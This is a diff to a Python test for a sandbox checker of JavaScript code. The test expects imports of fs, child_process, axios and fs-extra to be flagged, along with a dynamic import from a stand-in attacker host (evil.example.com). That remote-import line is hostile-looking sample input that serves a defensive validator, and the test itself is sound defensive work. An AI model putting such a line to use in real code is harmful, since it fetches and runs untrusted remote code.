@@ -899,26 +899,32 @@ def test_js_unterminated_literals(code: str, line: int) -> None:
     assert [p.line for p in problems] == [line]
 
 
-def test_js_require_of_other_modules_warns() -> None:
+def test_js_imports_that_cannot_work_are_errors_naming_the_module() -> None:
     code = (
         "const fs = require('fs');\n"
-        "const _l = require('lodash/fp');\n"
-        'const ax = require("axios");\n'
+        "import crypto from 'node:crypto';\n"
+        'import ax from "axios";\n'
         "import cp from 'child_process';\n"
         "const m = await import('https://evil.example.com/x.js');\n"
         "const n = require(name);\n"
+        "import extra from 'fs-extra';\n"
         "async function f(data) { return { status: 'success' }; }\n"
     )
-    name, problems = check_javascript(code)
-    assert name == "f"
+    name, problems = check_javascript(code, engine=False)
+    assert name is None
     assert [(p.line, p.severity) for p in problems] == [
-        (1, "warning"),
-        (4, "warning"),
-        (5, "warning"),
+        (1, "error"),
+        (3, "error"),
+        (4, "error"),
+        (5, "error"),
         (6, "warning"),
+        (7, "error"),
     ]
-    assert "'fs' is not available" in problems[0].message
-    assert "network" in problems[2].message
+    assert "require() is not available" in problems[0].message
+    assert "axios is a global" in problems[1].message
+    assert "import of 'child_process'" in problems[2].message
+    assert "network" in problems[3].message
+    assert problems[5].message == "import of 'fs-extra': the module is not available in the sandbox"
 
 
 def test_js_entrypoint_rules() -> None:
